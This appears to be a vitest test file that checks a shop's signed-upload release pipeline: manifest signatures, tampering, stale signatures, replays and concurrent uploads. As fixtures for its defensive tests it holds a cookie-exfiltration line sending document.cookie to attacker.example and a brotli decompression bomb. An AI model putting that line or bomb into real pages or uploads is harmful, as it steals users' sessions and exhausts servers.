/**
 * Signed uploads (PCI DSS 6.4.3): every build's manifest lists each file's SHA-384 and size, signed
 * with its team's key or the shop's, and verifies only unchanged, for that part and version, with a
 * key the shop accepts; an upload whose signature, files, signer, age or nonce do not hold is
 * refused (audited) and nothing moves; a replay is refused, also when several copies arrive at once;
 * a build that brings its own compressed copies is refused as an upload and from the command.
 * On SQLite and PostgreSQL (DATABASE_URL).
 */
import { appendFileSync, writeFileSync, readFileSync } from 'node:fs';
import { sign } from 'node:crypto';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  deploy,
  rollback,
  hashBuild,
  digestBuild,
  publicKeyPemOf,
  signManifest,
  verifySignedManifest,
  type SignedManifest,
  type SigningKey,
  packBuild,
} from '@shop/release';
import { cartRoute, fakeAreaBuild } from '@shop/release/testing';
import { signedShop } from '../helpers/signed-shop.ts';
import type { TestApi } from '../helpers/test-api.ts';

const shop = signedShop();
const { storage, shopKey, registryBytes, inForce: liveCheckout, versionDir } = shop;
let api: TestApi;
/** The operator origin: the console's calls and the CI uploads. */
let opsBase = '';
let checkoutTeam = '';
let checkoutKey: SigningKey;
let accountKey: SigningKey;

beforeAll(async () => {
  ({ api, opsBase, checkoutTeam, checkoutKey, accountKey } = await shop.start());
});
afterAll(shop.stop);

/** A CI upload of a checkout build: its files and the manifest signed as given. */
async function upload(dir: string, manifest: SignedManifest, token = checkoutTeam, area = 'checkout') {
  const { files } = await packBuild(dir);
  return fetch(`${opsBase}/api/ops/releases/${area}/upload`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ packageVersion: '1.0.0', budgetBytes: null, who: 'pipeline', files, mode: 'live', manifest }),
  });
}
const signBuild = async (dir: string, key = checkoutKey, part: 'checkout' | 'account' = 'checkout') =>
  signManifest(key, { part, version: `1.0.0-${await hashBuild(dir)}`, files: await digestBuild(dir) });

describe('a signed manifest', () => {
  it('verifies only unchanged, with a key the shop accepts for that part, naming that part and version', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'unit' });
    const signed = await signBuild(dir);
    const version = `1.0.0-${await hashBuild(dir)}`;
    const checkout = { keyId: checkoutKey.keyId, owner: 'ci-checkout', area: 'checkout', publicKey: publicKeyPemOf(checkoutKey) };
    expect(verifySignedManifest(signed, [checkout], { part: 'checkout', version }).files['assets/page.js']?.size).toBeGreaterThan(0);
    const refusals = [
      () =>
        verifySignedManifest({ ...signed, text: signed.text.replace('"size": ', '"size": 1') }, [checkout], { part: 'checkout', version }),
      () => verifySignedManifest(signed, [], { part: 'checkout', version }),
      () => verifySignedManifest(signed, [{ ...checkout, area: 'account' }], { part: 'checkout', version }),
      () => verifySignedManifest(signed, [checkout], { part: 'checkout', version: '1.0.0-0000000000' }),
      () => verifySignedManifest({ ...signed, signature: 'A'.repeat(86) + '==' }, [checkout], { part: 'checkout', version }),
    ];
    for (const refused of refusals) expect(refused).toThrow(expect.objectContaining({ code: 'bad_signature' }));
  });
});

describe('an upload', () => {
  it('signed by its team with matching files is released, and the signed manifest is kept beside the files', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'ci-good', routes: [cartRoute] });
    const response = await upload(dir, await signBuild(dir));
    expect(response.status).toBe(200);
    const version = await liveCheckout();
    expect(readFileSync(join(versionDir('checkout', version), 'release-manifest.json'), 'utf8')).toContain('"assets/page.js"');
    await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
    await fetch(`${opsBase}/api/ops/releases/checkout/unpin`, {
      method: 'POST',
      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
      body: '{}',
    });
  });

  it('is refused (422, audited) when its signature, its files, its signer, its age or its nonce do not hold; the registry stays byte-identical', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'ci-bad', routes: [cartRoute] });
    const good = await signBuild(dir);
    const changed = fakeAreaBuild('checkout', { marker: 'ci-bad', routes: [cartRoute] });
    appendFileSync(join(changed, 'assets', 'page.js'), '\n;fetch("https://attacker.example/?c="+document.cookie)');
    const stale = signManifest(checkoutKey, { part: 'checkout', version: `1.0.0-${await hashBuild(dir)}`, files: await digestBuild(dir) });
    const staleText = stale.text.replace(/"signedAt": "[^"]+"/, `"signedAt": "${new Date(Date.now() - 25 * 3600_000).toISOString()}"`);
    const before = registryBytes();
    const cases: [string, () => Promise<Response>][] = [
      ['altered manifest', () => upload(dir, { ...good, text: good.text.replace(/"sha384": "[^"]{10}/, '"sha384": "AAAAAAAAAA') })],
      ['files differ from the manifest', () => upload(changed, good)],
      ['another team signed it', async () => upload(dir, await signBuild(dir, accountKey))],
      [
        'signed a day ago',
        () => upload(dir, { text: staleText, signature: sign(null, Buffer.from(staleText), checkoutKey.privateKey).toString('base64') }),
      ],
      ['unsigned', () => upload(dir, { text: good.text, signature: 'x' })],
    ];
    for (const [what, send] of cases) {
      const response = await send();
      expect(response.status, what).toBe(422);
      const body = (await response.json()) as { error: { refusal: string; message: string } };
      expect(body.error.refusal, what).toBe('bad_signature');
      expect(registryBytes(), what).toBe(before);
    }
    const audit = await api.db.selectFrom('release_audit').selectAll().where('allowed', '=', 0).where('action', '=', 'upload').execute();
    expect(audit.length).toBeGreaterThanOrEqual(4);
  });

  it('sent again (a replay of a signed upload) is refused, and nothing moves', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'ci-replay', routes: [cartRoute] });
    const signed = await signBuild(dir);
    expect((await upload(dir, signed)).status).toBe(200);
    const before = registryBytes();
    const replay = await upload(dir, signed);
    expect(replay.status).toBe(422);
    expect(((await replay.json()) as { error: { message: string } }).error.message).toContain('replayed upload');
    // The same signature spelled otherwise: the last character's unused low bits changed (16 spellings, one signature).
    const last = signed.signature.length - 3;
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
    const respelled = `${signed.signature.slice(0, last)}${alphabet[alphabet.indexOf(signed.signature[last]!) ^ 0b1111]}==`;
    expect(respelled).not.toBe(signed.signature);
    expect(Buffer.from(respelled, 'base64')).toEqual(Buffer.from(signed.signature, 'base64'));
    const respelledReplay = await upload(dir, { ...signed, signature: respelled });
    expect(respelledReplay.status).toBe(422);
    expect(((await respelledReplay.json()) as { error: { message: string } }).error.message).toContain('replayed upload');
    expect(registryBytes()).toBe(before);
    await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
    await fetch(`${opsBase}/api/ops/releases/checkout/unpin`, {
      method: 'POST',
      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
      body: '{}',
    });
  });
});

describe('a build that brings its own compressed copies', () => {
  it('is refused as an upload (422, in Slovak) and as a release from the command; nothing moves', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'own-copies', routes: [cartRoute] });
    const signed = await signBuild(dir);
    const { files } = await packBuild(dir);
    const before = registryBytes();
    // A brotli bomb beside the small entry: the release makes its copies itself, so an upload never carries one.
    for (const name of ['remoteEntry.js.br', 'assets/page.js.gz']) {
      const response = await fetch(`${opsBase}/api/ops/releases/checkout/upload`, {
        method: 'POST',
        headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
        body: JSON.stringify({
          packageVersion: '1.0.0',
          budgetBytes: null,
          who: 'pipeline',
          files: { ...files, [name]: brotliCompressSync(Buffer.alloc(1 << 20)).toString('base64') },
          mode: 'live',
          manifest: signed,
        }),
      });
      expect(response.status, name).toBe(422);
      const body = (await response.json()) as { error: { code: string; message: string; refusal: string } };
      expect(body.error.refusal, name).toBe('broken_build');
      expect(body.error.message, name).toContain(`Zostava obsahuje vlastné komprimované kópie súborov (${name})`);
      expect(body.error.message, name).toContain('vytvára pri vydaní obchod sám');
    }
    expect(registryBytes()).toBe(before);
    // The same build from the command: its copies would otherwise reach the origin unsigned.
    writeFileSync(join(dir, 'remoteEntry.js.br'), brotliCompressSync(Buffer.alloc(1 << 20)));
    await expect(packBuild(dir)).rejects.toMatchObject({ code: 'broken_build' });
    await expect(
      deploy({ storage, part: 'checkout', distDir: dir, packageVersion: '1.0.0', provenance: { who: 'ci' }, signingKey: shopKey }),
    ).rejects.toMatchObject({ code: 'broken_build', message: expect.stringContaining('remoteEntry.js.br') });
    expect(registryBytes()).toBe(before);
  });
});

describe('a signed upload sent several times at once', () => {
  it('is released once; every other copy is refused as a replay, on both engines', async () => {
    const dir = fakeAreaBuild('checkout', { marker: `ci-concurrent-${Date.now()}`, routes: [cartRoute] });
    const signed = await signBuild(dir);
    const answers = await Promise.all(Array.from({ length: 6 }, () => upload(dir, signed)));
    const statuses = answers.map((answer) => answer.status).sort();
    expect(statuses).toEqual([200, 422, 422, 422, 422, 422]);
    const accepted = await api.db
      .selectFrom('release_signatures')
      .selectAll()
      .where('version', '=', `1.0.0-${await hashBuild(dir)}`)
      .execute();
    expect(accepted).toHaveLength(1);
    await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
    await fetch(`${opsBase}/api/ops/releases/checkout/unpin`, {
      method: 'POST',
      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
      body: '{}',
    });
  });
});
